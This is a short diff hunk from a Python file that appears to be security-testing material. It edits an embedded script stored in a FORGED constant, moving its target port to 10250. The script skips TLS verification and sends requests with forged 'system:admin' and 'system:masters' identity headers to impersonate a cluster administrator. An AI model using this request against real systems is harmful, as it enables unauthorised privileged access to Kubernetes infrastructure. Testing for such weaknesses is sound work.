@@ -35,7 +35,7 @@ VALUES = {
 FORGED = """
 import http.client, ssl, sys
 context = ssl._create_unverified_context()
-connection = http.client.HTTPSConnection(sys.argv[1], 8444, timeout=5, context=context)
+connection = http.client.HTTPSConnection(sys.argv[1], 10250, timeout=5, context=context)
 headers = {"X-Remote-User": "system:admin", "X-Remote-Group": "system:masters"}
 connection.request("GET", sys.argv[2], headers=headers)
 answer = connection.getresponse()
